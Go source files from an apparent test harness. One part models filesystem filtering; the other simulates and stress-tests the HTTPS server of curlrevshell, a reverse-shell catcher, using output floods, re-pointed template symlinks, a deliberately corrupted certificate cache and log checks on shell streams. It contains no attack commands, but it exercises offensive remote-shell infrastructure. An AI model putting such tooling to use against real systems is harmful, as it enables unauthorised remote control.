	t.resort()
	return t, nil
}

// apply makes the model follow one SetFilter call (resort afterwards).
func (t *table) apply(op FilterOp) error {
	if _, err := path.Match(op.P, ""); err != nil || strings.Contains(op.P, "/") || op.P == "" {
		return fmt.Errorf("pattern %q not usable", op.P)
	}
	switch op.K {
	case fkDel:
		delete(t.kind, op.P)
	case fkMark, fkPass, fkDrop:
		t.kind[op.P] = op.K
	default:
		return fmt.Errorf("unknown filter kind %q", op.K)
	}
	return nil
}

func (t *table) resort() {
	t.pats = t.pats[:0]
	for p := range t.kind {
		t.pats = append(t.pats, p)
	}
	sort.Strings(t.pats)
}

// first returns the first pattern (in sorted order) that matches name.
func (t *table) first(name string) (string, bool) {
	for _, p := range t.pats {
		if ok, _ := path.Match(p, name); ok {
			return p, true
		}
	}
	return "", false
}

// distinctMatches is the number of patterns matching name.
func (t *table) matches(name string) int {
	n := 0
	for _, p := range t.pats {
		if ok, _ := path.Match(p, name); ok {
			n++
		}
	}
	return n
}

func markOut(pattern, name string, content []byte) []byte {
	return append([]byte("<F["+pattern+"]:"+path.Base(name)+">"), content...)
}

// ---- building the tree from the actions -----------------------------------

func validName(p string) bool {
	if !fs.ValidPath(p) || p == "." {
		return false
	}
	for _, el := range strings.Split(p, "/") {
		if len(el) > 255 || strings.ContainsRune(el, 0) {
			return false
		}
	}
	return true
}

// add inserts an entry; missing parents become directories (so that deleting
// a "dir" item of a case leaves its children meaningful).  It returns false
// when the entry cannot be added (duplicate, parent not a directory).
func (s *simFS) add(p string, n *node) bool {
	if !validName(p) {
		return false
	}
	cur := s.root
	parts := strings.Split(p, "/")
	for i, el := range parts[:len(parts)-1] {
		child := cur.children[el]
		if child == nil {
			child = &node{kind: kDir, name: el, path: strings.Join(parts[:i+1], "/"),
				children: map[string]*node{}, idx: -1}
			cur.children[el] = child
		}
		if child.kind != kDir {
			return false
		}
		cur = child
	}
	base := parts[len(parts)-1]
	if old := cur.children[base]; old != nil {
		// an explicit "dir" item for a directory that a child created already
		if old.kind == kDir && n.kind == kDir && old.idx == -1 {
			old.idx = n.idx
			return true
		}
		return false
	}
	n.name, n.path = base, p
	if n.kind == kDir {
		n.children = map[string]*node{}
	}
	cur.children[base] = n
	return true
}

func sortedChildren(n *node) []*node {
	names := make([]string, 0, len(n.children))
	for k := range n.children {
		names = append(names, k)
	}
	sort.Strings(names)
	out := make([]*node, 0, len(names))
	for _, k := range names {
		out = append(out, n.children[k])
	}
	return out
}
