package fssim

import (
	"bytes"
	"path"
	"regexp"
	"strings"
)

// tokenRE is the unique content token the generator gives every file.
var tokenRE = regexp.MustCompile(`tk[0-9]{4}z`)

func tokenOf(data []byte) string { return string(tokenRE.Find(data)) }

// entryInfo is the model's view of one top-level entry of a source directory.
type entryInfo struct {
	n      *node // the entry itself (not followed)
	rn     *node // what it resolves to (nil: dangling)
	name   string
	dot    bool
	match  bool
	nested bool // below a sub-directory of the source: never eligible

	nameEligible bool // top level, no leading dot, matches a pattern
	eligible     bool // nameEligible and a regular file (not through a link)
	ambiguous    bool // nameEligible valid link to a regular file: not judged
	faulted      bool // a stat/open/read fault is planted on it (or its target)
	class        string
}

// srcModel is the reference result for one source.
type srcModel struct {
	src       string
	isDir     bool
	expected  []byte
	opaque    bool // contains a part converted by the real FromPerl: content not judged
	ambiguous bool
	mayFail   bool // a fault sits where a correct implementation has to look
	dirFault  bool
	parts     int
	fixups    int // parts that needed the newline
	empties   int // eligible files contributing nothing
	multi     int // eligible files matched by several patterns
	entries   []*entryInfo
	matched   bool // single file: a pattern matches
}

func (e *entryInfo) ineligible() bool { return !e.eligible && !e.ambiguous }

func classify(e *entryInfo) string {
	var c string
	rk := "dangling"
	if e.rn != nil {
		rk = e.rn.kind
	}
	link := e.n.kind == kSymlink
	switch {
	case e.nested:
		c = "entry in a sub-directory"
		return c
	case e.dot:
		switch {
		case link && rk == "dangling":
			c = "dangling dot-file symlink"
		case link:
			c = "dot-file symlink"
		case rk == kDir:
			c = "dot-named sub-directory"
		case rk == kPipe:
			c = "dot-named irregular file"
		default:
			c = "dot-file"
		}
	case link && rk == "dangling" && e.match:
		c = "dangling symlink with matching name"
	case link && rk == "dangling":
		c = "dangling symlink with non-matching name"
	case rk == kDir && e.match:
		c = "sub-directory with matching name"
	case rk == kDir:
		c = "sub-directory"
	case rk == kPipe && e.match:
		c = "irregular file with matching name"
	case rk == kPipe:
		c = "irregular file"
	case link && e.match:
		c = "symlink with matching name"
	case link:
		c = "symlink with non-matching name"
	case !e.match:
		c = "non-matching file"
	default:
		c = "eligible file"
	}
	if e.faulted {
		c = "faulted " + c
	}
	return c
}

// part converts content the way the table says; opaque is set for the real
// FromPerl, whose output the harness does not model.
func (t *table) part(name string, content []byte) (out []byte, pattern string, matched, opaque bool) {
	p, ok := t.first(name)
	if !ok {
		return nil, "", false, false
	}
	switch t.kind[p] {
	case fkMark:
		out = markOut(p, name, content)
	case fkPass, fkRealSh:
		out = append([]byte(nil), content...)
	case fkDrop:
		out = nil
	case fkRealPerl:
		return nil, p, true, true
	}
	if len(out) != 0 && out[len(out)-1] != '\n' {
		out = append(out, '\n')
	}
	return out, p, true, false
}

// model computes the reference for one source, or ok == false when the source
// is neither a directory nor a regular file of the tree.
func (r *run) model(src string) (*srcModel, bool) {
	ln, n, err := r.fs.resolve(src)
	if err != nil || ln.kind == kSymlink {
		return nil, false
	}
	m := &srcModel{src: src}
	if n.hardFault() {
		m.mayFail = true
	}
	switch n.kind {
	case kFile:
		base := path.Base(src)
		out, _, matched, opaque := r.tab.part(base, n.data)
		m.matched = matched
		switch {
		case opaque:
			m.opaque = true
		case matched:
			m.expected = out
		default:
			m.expected = append([]byte(nil), n.data...)
		}
		m.parts = 1
		return m, true
	case kDir:
	default:
		return nil, false
	}
	m.isDir = true
	m.dirFault = n.hardFault()
	for _, c := range sortedChildren(n) {
		e := &entryInfo{n: c, rn: c, name: c.name}
		if c.kind == kSymlink {
			_, rn, err := r.fs.resolve(c.path)
			if err != nil {
				rn = nil
			}
			e.rn = rn
		}
		e.dot = strings.HasPrefix(c.name, ".")
		e.match = r.tab.matches(c.name) > 0
		e.nameEligible = !e.dot && e.match
		e.faulted = c.hardFault() || e.rn.hardFault()
		if e.nameEligible && e.rn != nil && e.rn.kind == kFile {
			if c.kind == kSymlink {
				e.ambiguous = true
			} else {
				e.eligible = true
			}
		}
		e.class = classify(e)
		m.entries = append(m.entries, e)
		if e.nameEligible && e.faulted {
			m.mayFail = true
		}
		if e.ambiguous {
			m.ambiguous = true
		}
		if e.eligible {
			out, _, _, opaque := r.tab.part(c.name, c.data)
			if opaque {
				m.opaque = true
			}
			m.parts++
			if len(out) == 0 && !opaque {
				m.empties++
			}
			if len(out) > 0 && (len(c.data) == 0 || c.data[len(c.data)-1] != '\n') {
				m.fixups++
			}
			if r.tab.matches(c.name) > 1 {
				m.multi++
			}
			m.expected = append(m.expected, out...)
		}
		// what lies below a sub-directory never counts
		if c.kind == kDir {
			r.nestedEntries(c, m)
		}
	}
	return m, true
}

func (r *run) nestedEntries(d *node, m *srcModel) {
	for _, c := range sortedChildren(d) {
		e := &entryInfo{n: c, rn: c, name: c.name, nested: true,
			dot: strings.HasPrefix(c.name, "."), match: r.tab.matches(c.name) > 0}
		e.faulted = c.hardFault()
		e.class = classify(e)
		m.entries = append(m.entries, e)
		if c.kind == kDir {
			r.nestedEntries(c, m)
		}
	}
}

// included reports whether the payload shows that entry e was converted:
// its marker (any pattern) or more copies of its content token than the
// reference payload holds.
func (r *run) included(e *entryInfo, payload, expected []byte) bool {
	onlyMark := e.match
	for _, p := range r.tab.pats {
		if r.tab.kind[p] != fkMark {
			if ok, _ := path.Match(p, e.name); ok {
				onlyMark = false
			}
			continue
		}
		mk := []byte("<F[" + p + "]:" + e.name + ">")
		if bytes.Count(payload, mk) > bytes.Count(expected, mk) {
			return true
		}
	}
	if onlyMark {
		// every filter that could have converted it would have left its mark
		return false
	}
	src := e.rn
	if src == nil || (src.kind != kFile && src.kind != kPipe) {
		return false
	}
	tok := tokenOf(src.data)
	if tok == "" {
		return false
	}
	return bytes.Count(payload, []byte(tok)) > bytes.Count(expected, []byte(tok))
}
