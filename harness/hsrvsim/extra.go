package hsrvsim

import (
	"bytes"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strings"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
)

// ---- output floods -----------------------------------------------------------

// floodData is n bytes of the flood text from stream offset off on: numbered
// 16-byte records (so that a gap, a repeat or a swap shows), each with a byte
// that is not UTF-8, a NUL and a CR LF.
func floodData(off, n int) []byte {
	const hex = "0123456789abcdef"
	out := make([]byte, 0, n+32)
	for blk := off / 16; len(out) < n+off%16; blk++ {
		var rec [16]byte
		for i, v := 11, blk; i >= 0; i, v = i-1, v>>4 {
			rec[i] = hex[v&15]
		}
		rec[12], rec[13], rec[14], rec[15] = 0xff, 0, '\r', '\n'
		out = append(out, rec[:]...)
	}
	return out[off%16 : off%16+n]
}

// sendFlood uploads a.Flood KiB of output on c in HTTP chunks of a.Piece KiB,
// in one go: the client does not wait for anything in between.
func (s *sim) sendFlood(ss *session, c *client, a Action) {
	left := a.Flood << 10
	for left > 0 {
		n := a.Piece << 10
		if n > left {
			n = left
		}
		d := floodData(len(ss.sentOut), n)
		if err := c.write(chunk(d)); err != nil {
			s.obs("flood cut short: upload failed")
			break
		}
		ss.sentOut = append(ss.sentOut, d...)
		left -= n
	}
	s.probes["output_floods"]++
	s.floods++
	if len(ss.sentOut) > 256<<10 {
		s.probes["output_beyond_256KiB"]++
	}
	s.nontrivial = true
}

// ---- template behind a symbolic link -------------------------------------------

// linkTemplate installs version a.N of the template the way configuration
// managers do: a new file in a store directory, then the configured path - a
// symbolic link - is re-pointed at it (atomically, by renaming a new link over
// the old one, when the path already is a link).
func (s *sim) linkTemplate(a Action) {
	store := filepath.Join(s.dir, "tmplstore")
	_ = os.MkdirAll(store, 0o700)
	name := fmt.Sprintf("v%d.tmpl", a.N)
	target := filepath.Join(store, name)
	switch a.T {
	case "valid":
		_ = os.WriteFile(target, []byte(validTemplate(a.N)), 0o600)
	case "unparsable":
		_ = os.WriteFile(target, []byte(pad("#!/bin/sh\n{{.URL\n")), 0o600)
		s.fault("template_unparsable")
	case "execfail":
		_ = os.WriteFile(target, []byte(pad("#!/bin/sh\necho before {{.Nope}} after\n")), 0o600)
		s.fault("template_exec_error")
	case "empty":
		_ = os.WriteFile(target, nil, 0o600)
		s.fault("template_empty")
	case "missing":
		s.fault("template_missing")
	case "dir":
		_ = os.Mkdir(target, 0o700)
		s.fault("template_unreadable")
	}
	if a.T == "missing" && a.N%2 == 0 {
		// the link itself goes away (otherwise it is left dangling)
		_ = os.Remove(s.tmplPath)
		s.probes["template_link_removed"]++
		return
	}
	to := target
	if a.N%3 == 0 {
		to = filepath.Join("tmplstore", name) // relative to the link's directory
	}
	if fi, err := os.Lstat(s.tmplPath); err == nil && fi.Mode()&os.ModeSymlink != 0 {
		tmp := s.tmplPath + ".new"
		_ = os.Remove(tmp)
		if err := os.Symlink(to, tmp); err != nil {
			s.harnessErr = "symlink: " + err.Error()
			return
		}
		if err := os.Rename(tmp, s.tmplPath); err != nil {
			s.harnessErr = "renaming the new link over the old: " + err.Error()
			return
		}
		s.probes["template_link_repointed"]++
	} else {
		_ = os.RemoveAll(s.tmplPath)
		if err := os.Symlink(to, s.tmplPath); err != nil {
			s.harnessErr = "symlink: " + err.Error()
			return
		}
		s.probes["template_link_created"]++
	}
	if s.boot != nil && s.boot.tmplOn {
		s.probes["template_link_changed_while_serving"]++
	}
	if s.cfg.CoarseDisk && a.T != "missing" {
		t := time2024
		_ = os.Chtimes(target, t, t)
		s.probes["template_same_mtime"]++
	}
	s.nontrivial = true
}

// ---- damaged certificate cache ---------------------------------------------------

const b64Alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

// certRegions are the parts of a certificate a damage can be aimed at; where
// they lie is worked out from the certificate on disk, so that an action means
// the same thing for every certificate the program generates (their serial
// numbers and signatures differ in length from run to run).
var certRegions = []string{"head", "issuer", "validity", "subject", "spki", "ext", "tail"}

func regionOf(der []byte, leaf *x509.Certificate, which string) (start, n int) {
	tbs := bytes.Index(der, leaf.RawTBSCertificate)
	iss := bytes.Index(der, leaf.RawIssuer)
	spki := bytes.Index(der, leaf.RawSubjectPublicKeyInfo)
	if tbs < 0 || iss < 0 || spki < 0 {
		return 0, 0
	}
	issEnd := iss + len(leaf.RawIssuer)
	sub := bytes.Index(der[issEnd:spki], leaf.RawSubject)
	if sub < 0 {
		return 0, 0
	}
	sub += issEnd
	tbsEnd := tbs + len(leaf.RawTBSCertificate)
	switch which {
	case "head": // version, serial number, signature algorithm
		return tbs, iss - tbs
	case "issuer":
		return iss, len(leaf.RawIssuer)
	case "validity":
		return issEnd, sub - issEnd
	case "subject":
		return sub, len(leaf.RawSubject)
	case "spki":
		return spki, len(leaf.RawSubjectPublicKeyInfo)
	case "ext":
		return spki + len(leaf.RawSubjectPublicKeyInfo), tbsEnd - spki - len(leaf.RawSubjectPublicKeyInfo)
	case "tail": // outer signature algorithm and the signature (but for the last
		// three bytes: the last base64 group is left alone, see below)
		return tbsEnd, len(der) - tbsEnd - 3
	}
	return 0, 0
}

// damageCache changes one base64 character of the cache file as the run that
// created it left it.  Which names a part of the certificate: bit a.Mask of its
// byte a.N (modulo the part's length) is flipped, wherever the base64 text
// happens to hold that bit.  Which "key": character a.N (modulo the length) of
// the key section, its 6-bit value xor a.Mask.
func (s *sim) damageCache(a Action) {
	if s.cacheChain {
		// C08 speaks of the file a run created; a damaged file the operator
		// installed is judged only for C05 (advertised = served)
		s.cachePin = ""
		// nothing in the program can tell that such a file is damaged, so what
		// a boot makes of it depends on the certificate's own bytes: only the
		// framing of the public key info (the same for every key of the kind)
		// is touched, never the random part
		if a.Which != "spki" {
			s.obs("operator-installed cache: only the framing of the key info is damaged")
			return
		}
		a.N %= 26
		s.probes["operator_installed_cache_damaged"]++
	}
	if !s.cacheBad || s.cacheOrig == nil {
		b, err := os.ReadFile(s.cachePath)
		if err != nil {
			s.harnessErr = "reading the cache file: " + err.Error()
			return
		}
		s.cacheOrig = b
	}
	orig := s.cacheOrig
	section := "CERTIFICATE"
	if a.Which == "key" {
		section = "PRIVATE KEY"
	}
	hi := bytes.Index(orig, []byte("-----BEGIN "+section+"-----\n"))
	if hi < 0 {
		s.obs("cache file has no %s section", section)
		return
	}
	start := hi + len("-----BEGIN "+section+"-----\n")
	end := start + bytes.Index(orig[start:], []byte("-----END "))
	if end < start {
		s.obs("cache file's %s section does not end", section)
		return
	}
	var pos []int
	for i := start; i < end; i++ {
		if strings.IndexByte(b64Alphabet, orig[i]) >= 0 {
			pos = append(pos, i)
		}
	}
	// (not the last group of four: its last character has bits that stand for
	// nothing, and whether a change there is a change at all would depend on
	// the length of this run's random certificate)
	if len(pos) >= 8 {
		pos = pos[:(len(pos)-1)/4*4]
	}
	if len(pos) == 0 {
		s.obs("empty section")
		return
	}
	n, mask := a.N%len(pos), a.Mask
	if a.Which != "key" {
		blk, _ := pem.Decode(orig[hi:])
		if blk == nil {
			s.obs("certificate section does not decode")
			return
		}
		leaf, err := x509.ParseCertificate(blk.Bytes)
		if err != nil {
			s.obs("certificate does not parse")
			return
		}
		off, rn := regionOf(blk.Bytes, leaf, a.Which)
		if rn <= 0 {
			s.obs("certificate has no such part")
			return
		}
		k := 0
		for 1<<k != a.Mask {
			k++
		}
		bit := (off+a.N%rn)*8 + 7 - k // counted from the first bit of the DER text
		if bit/6 >= len(pos) {
			s.obs("that bit lies in the last group")
			return
		}
		n, mask = bit/6, 1<<(5-bit%6)
		s.probes["cache_damage_in_"+a.Which]++
	} else {
		// (the framing and the private scalar; behind them lies a copy of the
		// public key, and what a loader makes of a change there can depend on
		// the key's random bytes)
		if len(pos) > 88 {
			n = a.N % 88
		}
		s.probes["cache_damage_in_key"]++
	}
	mod := append([]byte(nil), orig...)
	old := strings.IndexByte(b64Alphabet, orig[pos[n]])
	mod[pos[n]] = b64Alphabet[old^mask]
	if err := os.WriteFile(s.cachePath, mod, 0o600); err != nil {
		s.harnessErr = "writing the damaged cache file: " + err.Error()
		return
	}
	s.cacheBad = true
	s.fault("cache_one_character_changed")
}

// ---- the JSON log accounts for every stream (C11) ---------------------------------

type logRec struct {
	level, msg, dir string
	strs            []string // every string value of the record, at any depth
}

func collectStrings(v any, out *[]string) {
	switch t := v.(type) {
	case string:
		*out = append(*out, t)
	case map[string]any:
		for _, x := range t {
			collectStrings(x, out)
		}
	case []any:
		for _, x := range t {
			collectStrings(x, out)
		}
	}
}

// parseLog reads the records written since the last call.  Records of shell
// traffic are of no interest here and are skipped.
func (s *sim) parseLog() {
	s.logBuf.mu.Lock()
	end := bytes.LastIndexByte(s.logBuf.b, '\n')
	if end < 0 {
		s.logBuf.mu.Unlock()
		return
	}
	b := append([]byte(nil), s.logBuf.b[:end+1]...)
	s.logBuf.b = append(s.logBuf.b[:0], s.logBuf.b[end+1:]...)
	s.logBuf.mu.Unlock()
	shellIO := []byte(`"` + slog.MessageKey + `":"` + iobroker.LMShellIO + `"`)
	for _, l := range bytes.Split(b, []byte("\n")) {
		if len(l) == 0 {
			continue
		}
		if len(l) > 512 && bytes.Contains(l[:200], shellIO) {
			// shell traffic (the handler writes time, level and message first; a
			// line that is laid out differently just takes the long way below)
			continue
		}
		var m map[string]any
		if err := json.Unmarshal(l, &m); err != nil {
			s.violate("C11", "json-lines", "a line of the log is not one JSON object", "log line %q: %v", clip(l), err)
			continue
		}
		r := logRec{}
		r.level, _ = m[slog.LevelKey].(string)
		r.msg, _ = m[slog.MessageKey].(string)
		if r.msg == iobroker.LMShellIO {
			continue
		}
		r.dir, _ = m[iobroker.LKDirection].(string)
		collectStrings(m, &r.strs)
		s.logRecs = append(s.logRecs, r)
	}
}

// checkLog: every request that was given to a shell endpoint's handler outside
// shutdown is, once the handler has returned, accounted for in the log: each
// of its streams has a connect and a disconnect record, or an error record.
func (s *sim) checkLog() {
	if s.harnessErr != "" {
		return
	}
	s.mu.Lock()
	var todo []*reqRec
	for _, r := range s.reqs {
		if r.returned && !r.judged {
			r.judged = true
			if !r.duringStop {
				todo = append(todo, r)
			}
		}
	}
	s.mu.Unlock()
	s.parseLog()
	for _, r := range todo {
		var dirs []string
		switch {
		case strings.HasPrefix(r.pattern, "/io"):
			dirs = []string{string(iobroker.LVInput), string(iobroker.LVOutput)}
		case strings.HasPrefix(r.pattern, "/i/"):
			dirs = []string{string(iobroker.LVInput)}
		case strings.HasPrefix(r.pattern, "/o/"):
			dirs = []string{string(iobroker.LVOutput)}
		default:
			continue
		}
		s.probes["streams_looked_up_in_log"] += int64(len(dirs))
		for _, d := range dirs {
			conn, disc, errRec := false, false, false
			for _, lr := range s.logRecs {
				mine := false
				for _, x := range lr.strs {
					if x == r.remote {
						mine = true
						break
					}
				}
				if !mine {
					continue
				}
				if lr.level == slog.LevelError.String() && (lr.dir == d || lr.dir == "") {
					errRec = true
				}
				if lr.dir == d && lr.msg == iobroker.LMNewConnection {
					conn = true
				}
				if lr.dir == d && lr.msg == iobroker.LMDisconnected && conn {
					disc = true
				}
			}
			switch {
			case conn && disc:
				s.probes["stream_logged_connect_and_disconnect"]++
			case errRec:
				s.probes["stream_logged_error_only"]++
			default:
				s.violate("C11", "stream-accounted", "a stream handed to a shell endpoint outside shutdown has neither connect and disconnect records nor an error record in the log",
					"request from %s routed to %q, %s stream: the handler has returned and the server is quiescent, but the JSON log has connect=%v disconnect=%v error=%v for it", s.canon(r.remote), r.pattern, d, conn, disc, errRec)
			}
		}
	}
}
