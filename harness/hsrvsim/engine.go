// Package hsrvsim is Layer B of DESIGN.md: the whole HTTPS server (hsrv.New,
// Server.Do, every handler, the broker, net/http, crypto/tls, sstls and its
// certificate cache) inside a synctest bubble over the in-memory network, with
// the harness playing operator, clients, disk and main's wiring.
//
// Besides the histories of boots, /c requests and shell sessions it has: output
// floods sent right behind a request, before the handler has run (extra.go);
// clients that reset the connection before the handler has run, and a reading
// of the server's JSON log that accounts for every stream handed to a shell
// endpoint (C11, extra.go); a template path that is a symbolic link which gets
// re-pointed; a cache file with one base64 character changed between boots;
// and, outside any bubble, a bounded stress test of /c with real goroutines
// (hammer.go).
package hsrvsim

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"runtime/debug"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/magisterquis/curlrevshell/internal/hsrv"
	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
	"github.com/magisterquis/curlrevshell/verifharness/simnet"
)

// Engine is the Layer B engine.
type Engine struct{}

// Name implements simkit.Engine.
func (Engine) Name() string { return "hsrvsim" }

// Config is the per-run configuration.
type Config struct {
	Profile string `json:"profile"`
	Frag    int    `json:"frag"`     // network fragmentation: reads return 1..frag bytes (0 = whole)
	ChanCap int    `json:"chan_cap"` // capacity of the operator channels
	Steps   int    `json:"steps"`
	// CoarseDisk: every version of the template file gets the same modification time
	CoarseDisk bool `json:"coarse_disk,omitempty"`
	// HammerMS > 0: not a simulation but the stress test of hammer.go
	HammerMS  int `json:"hammer_ms,omitempty"`
	HammerPar int `json:"hammer_par,omitempty"`
}

// Action is one macro-step stimulus.
type Action struct {
	K string `json:"k"`
	// boot
	Listen   string   `json:"listen,omitempty"`
	Cache    bool     `json:"cache,omitempty"`
	CB       []string `json:"cb,omitempty"`
	FDir     bool     `json:"fdir,omitempty"`
	Tmpl     bool     `json:"tmpl,omitempty"`
	OneShell bool     `json:"one_shell,omitempty"`
	IPv6     bool     `json:"ipv6,omitempty"` // -ipv6-one-liners
	Port443  bool     `json:"port443,omitempty"`
	// get_c
	C2Q     string `json:"c2q,omitempty"`
	C2H     string `json:"c2h,omitempty"`
	Host    string `json:"host,omitempty"`
	SNI     string `json:"sni,omitempty"`
	Proto10 bool   `json:"proto10,omitempty"`
	Form    bool   `json:"form,omitempty"`
	// template edit
	T string `json:"t,omitempty"`
	N int    `json:"n,omitempty"`
	// sessions and traffic
	S     int    `json:"s,omitempty"`
	ID    string `json:"id,omitempty"`
	Which string `json:"which,omitempty"`
	Reset bool   `json:"reset,omitempty"`
	Pre   bool   `json:"pre,omitempty"` // use a connection made earlier instead of dialling
	B     []byte `json:"b,omitempty"`
	Ms    int    `json:"ms,omitempty"`
	// output flood: Flood KiB of numbered output in HTTP chunks of Piece KiB
	// (open_io/open_out: sent right behind the request, before the handler
	// has run; out: sent on the live session's upload)
	Flood int `json:"flood,omitempty"`
	Piece int `json:"piece,omitempty"`
	// Early: the client resets the connection right after its request, before
	// the handler has run (open_in/open_out/open_io)
	Early bool `json:"early,omitempty"`
	// Via "link": the template path is a symbolic link which is re-pointed at
	// a new file (tmpl); "" writes a regular file at the path itself
	Via string `json:"via,omitempty"`
	// damage_cache: one base64 character changed (xor Mask on its 6-bit value)
	Mask int `json:"mask,omitempty"`
	// boot: the broker's Do (which runs its event loop) is not started with the
	// server's but by a later start_iob step (or when the boot is stopped):
	// main starts the two concurrently, so any delay between them is a legal
	// schedule
	LateIOB bool `json:"late_iob,omitempty"`
	// open_*: a new session's ID is brought to this many bytes (late.go)
	Long int `json:"long,omitempty"`
	// squeeze_c: N requests for /c while the process may open only Margin more
	// descriptors than it has open already (squeeze.go)
	Margin int `json:"margin,omitempty"`
}

func (a Action) String() string {
	b, _ := json.Marshal(a)
	return string(b)
}

type boot struct {
	n            int
	act          Action
	svr          *hsrv.Server
	iob          *iobroker.Broker
	ctx          context.Context
	cancel       context.CancelFunc
	ln           *simnet.Listener
	boundPort    string
	bindHost     string
	advert       string // fingerprint the server says it advertises
	pin          string // pin computed from a real handshake
	firstLine    int    // index into sim.lines of this boot's first notice
	doRet        bool
	doErr        error
	iobRet       bool
	stopped      bool
	ready        int  // ready notices seen
	gone         int  // gone notices seen
	goneFull     int  // gone notices after a shell had been ready
	goneJudged   bool // the end of the one shell has been attributed
	goneAt       int64
	helpAfter    int // sha256 tokens seen after the first gone notice
	tmplOn       bool
	readyLine    int
	checked      int
	cacheExisted bool
	cacheJudged  bool
	iobStarted   bool  // the broker's Do has been started
	lastLinger   int64 // when a client was last seen to be still there after the one shell had gone
}

type session struct {
	n              int
	id             string
	in, out        *client
	io             *client
	sentOut        []byte // bytes sent on the output stream
	plainFrom      int
	shown          []byte // plain output displayed since plainFrom, up to line shownTo
	shownTo        int
	closed         bool
	closing        bool
	readyAtOpen    int
	readyChecked   bool
	noJudge        bool
	resetWithLines bool // the client reset the connection while lines were being entered
	halfServed     bool // one of the session's requests never reached a handler; the client has left
	expectOK       bool
}

type scriptInfo struct {
	ok   bool
	pin  string
	url  string
	id   string
	boot int
}

type sim struct {
	cfg Config
	rng *simkit.RNG
	job *simkit.Job

	dir       string
	cachePath string
	tmplPath  string
	filesDir  string

	net   *simnet.Net
	start time.Time

	ich chan string
	och chan opshell.CLine

	mu      sync.Mutex
	boot    *boot
	boots   []*boot
	lines   []opshell.CLine
	clients []*client
	sess    []*session
	ids     map[string]bool
	idOrder []string
	script  scriptInfo
	entered []string

	tmplState  string // none | valid | unparsable | empty | missing | dir | execfail
	tmplK      int
	tmplSerial int
	cachePin   string // identity served by the boot that created the current cache file

	step       int
	actions    []Action
	script2    []Action
	scriptPos  int
	replay     bool
	invalid    bool
	harnessErr string
	found      []simkit.Found
	trace      []string
	stepObs    []string
	faults     map[string]int64
	probes     map[string]int64
	nontrivial bool
	logBuf     *lockedBuf
	pre        []*client // connections made (TLS handshake done) but not yet used for a request
	holdC      bool      // hold handlers at the first write of a /c answer
	wparks     []*wpark

	floods     int  // output floods sent in this run
	holdEntry  bool // hold the next shell-endpoint handler before it starts
	eparks     []*wpark
	reqs       []*reqRec // every request the server's handler was given
	stopping   bool      // the harness has begun to stop the current boot
	flushFails int64     // response flushes of shell endpoints that failed
	logRecs    []logRec
	cacheOrig  []byte // the cache file as its creator left it (while a damaged copy is on disk)
	cacheBad   bool   // the cache file on disk is a damaged copy
	cacheChain bool   // the cache file was installed by the operator (leaf + CA)
}

// reqRec is what the wrapper around the server's handler knows of one request.
type reqRec struct {
	remote     string
	pattern    string // route the mux chose (known once the handler has returned)
	duringStop bool   // arrived after the harness began to stop the boot
	returned   bool
	judged     bool
}

type lockedBuf struct {
	mu sync.Mutex
	b  []byte
}

func (l *lockedBuf) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.b = append(l.b, p...)
	return len(p), nil
}

func (s *sim) nowNanos() int64 { return int64(time.Since(s.start)) }

func (s *sim) violate(prop, inv, sig, format string, a ...any) {
	for _, f := range s.found {
		if f.Property == prop && f.Invariant == inv {
			return
		}
	}
	msg := fmt.Sprintf(format, a...)
	s.found = append(s.found, simkit.Found{Property: prop, Invariant: inv, Signature: sig, Message: fmt.Sprintf("step %d: %s", s.step, msg)})
	s.obs("VIOLATION %s/%s: %s", prop, inv, msg)
}

func (s *sim) obs(format string, a ...any) { s.stepObs = append(s.stepObs, fmt.Sprintf(format, a...)) }

func (s *sim) flushObs(act string) {
	for i := range s.stepObs {
		s.stepObs[i] = s.canon(s.stepObs[i])
	}
	// what several connections do within one step has no order of its own
	sort.Strings(s.stepObs)
	if len(s.stepObs) > 16 {
		// (a flood of output is hundreds of equal entries)
		out := s.stepObs[:0:0]
		for i := 0; i < len(s.stepObs); {
			j := i
			for j < len(s.stepObs) && s.stepObs[j] == s.stepObs[i] {
				j++
			}
			if j-i > 1 {
				out = append(out, fmt.Sprintf("%s x%d", s.stepObs[i], j-i))
			} else {
				out = append(out, s.stepObs[i])
			}
			i = j
		}
		s.stepObs = out
	}
	s.trace = append(s.trace, fmt.Sprintf("step %d t=%dms %s :: %s", s.step, s.nowNanos()/1e6, act, strings.Join(s.stepObs, " ; ")))
	s.stepObs = s.stepObs[:0]
}

var (
	probeOnce     sync.Once
	haveV6        bool
	haveWild      bool
	haveLocalhost bool
	runSerial     int64
)

func probeHost() {
	probeOnce.Do(func() {
		if l, err := net.Listen("tcp", "[::1]:0"); err == nil {
			haveV6 = true
			l.Close()
		}
		if b, err := os.ReadFile("/etc/hosts"); err == nil {
			for _, l := range strings.Split(string(b), "\n") {
				f := strings.Fields(l)
				if len(f) >= 2 && f[0] == "127.0.0.1" {
					for _, n := range f[1:] {
						if n == "localhost" {
							haveLocalhost = true
						}
					}
				}
			}
		}
		if haveLocalhost {
			// the resolver's process-wide state must come into being outside any
			// bubble (its channels would otherwise belong to the first bubble)
			if as, err := net.LookupHost("localhost"); err != nil || len(as) == 0 {
				haveLocalhost = false
			}
		}
		ifs, _ := net.Interfaces()
		for _, nif := range ifs {
			if nif.Flags&net.FlagLoopback != 0 {
				continue
			}
			as, _ := nif.Addrs()
			for _, a := range as {
				if ipn, ok := a.(*net.IPNet); ok && ipn.IP.To4() != nil {
					haveWild = true
				}
			}
		}
	})
}

var (
	curMu    sync.Mutex
	curSim   *sim
	hookOnce sync.Once
)

// parkWriter is the response writer the handlers see: the simulator can hold a
// handler at its first write of a /c answer, as a slow client would, so that
// requests overlap.
type parkWriter struct {
	http.ResponseWriter
	s      *sim
	path   string
	remote string
	parked bool
}

func (p *parkWriter) Write(b []byte) (int, error) {
	if !p.parked {
		p.parked = true
		p.s.maybeParkWrite(p)
	}
	return p.ResponseWriter.Write(b)
}
func (p *parkWriter) Unwrap() http.ResponseWriter { return p.ResponseWriter }
